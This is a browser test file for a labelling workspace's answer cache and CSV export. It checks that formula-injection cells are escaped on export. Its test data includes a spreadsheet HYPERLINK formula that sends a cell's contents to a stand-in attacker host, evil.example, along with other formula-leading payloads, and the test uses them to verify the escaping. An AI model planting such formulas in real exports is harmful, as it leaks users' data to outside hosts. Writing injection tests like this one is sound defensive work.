// The workspace's answer cache and CSV export in real Chromium (issue 11, items 9 and 10):
// answers are cached per endpoint and region, so an answer from one endpoint is never replayed
// for another; "Clear cache" asks first and says how many answers went; CSV exports neutralise
// formula injection in every cell (input columns and model output), JSONL and the page do not.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, writeFileSync, mkdirSync } from "node:fs";
import { launchWithExtension } from "../lib/chromium.mjs";
import { startEmulator } from "../emulator/emulator.mjs";
import { LONG_LIVED } from "../emulator/test-credentials.mjs";
import { loadLabeler } from "../lib/load-wasm.mjs";
import { newProject, setField, fillKeys, answer, readStore } from "../lib/workspace-driver.mjs";

const OUT = new URL("../out/", import.meta.url).pathname;
mkdirSync(OUT, { recursive: true });

// Labels: one of them starts a formula, so the model's output carries one too.
const LABELS = ["positive", "negative", "=neutral"];
// Texts a spreadsheet would run (the emulator labels each by the label its text names).
const TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"positive")',
  "+1+1 negative",
  "-2+3 =neutral",
  "@SUM(A1:A2) positive",
  "\t=1+1 negative",
  "a plain positive row",
];
const N = TEXTS.length;
const csvCell = (s) => `"${s.replace(/"/g, '""')}"`;
const CSV_PATH = `${OUT}formulas.csv`;
writeFileSync(CSV_PATH, "text,note\n" + TEXTS.map((t, i) => `${csvCell(t)},${i === 0 ? "=1+2" : "ok"}`).join("\n") + "\n");

let emuA, emuB, browser, labeler, page;

before(async () => {
  labeler = await loadLabeler();
  [emuA, emuB] = await Promise.all([startEmulator(), startEmulator()]);
  browser = await launchWithExtension({ headless: true });
  page = await browser.context.newPage();
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto(browser.popupUrl.replace("popup.html", "workspace.html"));
  await page.waitForSelector("#version:not(:empty)");
});

after(async () => {
  await browser?.close();
  await Promise.all([emuA?.close(), emuB?.close()]);
});

const stat = async (id) => Number((await page.textContent(`#stat-${id}`)).replace(/[^\d]/g, ""));
const cacheCount = async () => (await readStore(page, "cache")).length;

/** A new project of the file, labelled against `endpoint`; resolves when the run is done. */
async function run(endpoint) {
  await newProject(page, CSV_PATH);
  await fillKeys(page, LONG_LIVED);
  await setField(page, "#labels", LABELS.join("\n"));
  await setField(page, "#batch-size", 2);
  await setField(page, "#endpoint", endpoint);
  await page.click("#predict");
  await page.waitForFunction(() => document.getElementById("run-status").textContent.startsWith("Done"), null, { timeout: 30_000 });
  assert.equal(await page.isHidden("#error"), true, await page.textContent("#error"));
}

test("CSV export: every cell that starts a formula is prefixed with ' and quoted, input and model output alike; JSONL and the table keep the text", async () => {
  await run(emuA.url);
  assert.equal(await stat("done"), N);

  await page.click("#tab-review");
  const [csv] = await Promise.all([page.waitForEvent("download"), page.click("#export-csv")]);
  const text = readFileSync(await csv.path(), "utf8");
  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""positive"")"`), text);
  assert.ok(text.includes(`"'=1+2"`), "an input column that is not the text column");
  const table = labeler.parseDataset(Buffer.from(text), "x.csv");
  assert.deepEqual(table.columns.slice(0, 4), ["text", "note", "model_labels", "final_labels"]);
  table.rows.forEach((row, i) => {
    const starts = /^[=+\-@\t\r]/.test(TEXTS[i]);
    assert.equal(row[0], starts ? `'${TEXTS[i]}` : TEXTS[i], `row ${i}`);
  });
  assert.equal(table.rows[0][1], "'=1+2");
  assert.equal(table.rows[2][2], "'=neutral", "the model's answer is neutralised too");
  for (const row of table.rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a live formula: ${JSON.stringify(cell)}`);

  const [jsonl] = await Promise.all([page.waitForEvent("download"), page.click("#export-jsonl")]);
  const lines = readFileSync(await jsonl.path(), "utf8").trim().split("\n").map((l) => JSON.parse(l));
  assert.deepEqual(lines.map((o) => o.text), TEXTS);
  assert.deepEqual(lines[2].model_labels, ["=neutral"]);
  const shown = await page.$$eval("#results-table tbody tr.item", (trs) => trs.map((tr) => tr.children[1].textContent));
  assert.deepEqual(shown, TEXTS, "the page shows the text as it is");
});

test("the cache answers the same endpoint again, but never another endpoint", async () => {
  const sentToA = emuA.stats.invocations.length;
  await run(emuA.url);
  assert.equal(await stat("cached"), N, "same endpoint: every row from the cache");
  assert.equal(emuA.stats.invocations.length, sentToA);

  await run(emuB.url);
  assert.equal(await stat("cached"), 0, "another endpoint: nothing from the cache");
  assert.ok(emuB.stats.invocations.length > 0, "the other endpoint was asked");
  assert.equal(await cacheCount(), 2 * N, "one answer per row and endpoint");
});

/** Clicks Clear cache, answering its question with `answer` ("clear" | "keep"); returns { asked, info }. */
async function clickClearCache(choice) {
  await page.click("#tab-setup");
  await page.evaluate(() => (document.getElementById("cache-info").textContent = ""));
  await page.click("#clear-cache");
  const dialog = await page.waitForSelector("dialog#ask[open]", { timeout: 2000 }).catch(() => null);
  const asked = dialog ? await page.textContent("#ask-text") : null;
  if (dialog) await answer(page, choice);
  await page.waitForFunction(() => document.getElementById("cache-info").textContent !== "");
  return { asked, info: await page.textContent("#cache-info") };
}

test("Clear cache asks first, says how many answers were removed, and the next run asks Bedrock again", async () => {
  const dismissed = await clickClearCache("keep");
  assert.match(dismissed.asked, new RegExp(`^Remove ${2 * N} cached answers\\?`));
  assert.equal(dismissed.info, "Nothing was removed.");
  assert.equal(await cacheCount(), 2 * N);

  const accepted = await clickClearCache("clear");
  assert.match(accepted.asked, new RegExp(`^Remove ${2 * N} cached answers\\?`));
  assert.equal(accepted.info, `Removed ${2 * N} cached answers.`);
  assert.equal(await cacheCount(), 0);

  const sentToB = emuB.stats.invocations.length;
  await run(emuB.url);
  assert.equal(await stat("cached"), 0);
  assert.ok(emuB.stats.invocations.length > sentToB, "asked again after clearing");
  assert.equal((await clickClearCache("clear")).info, `Removed ${N} cached answers.`);

  const empty = await clickClearCache("clear");
  assert.equal(empty.asked, null, "nothing to remove: no question");
  assert.equal(empty.info, "The cache is empty.");
});
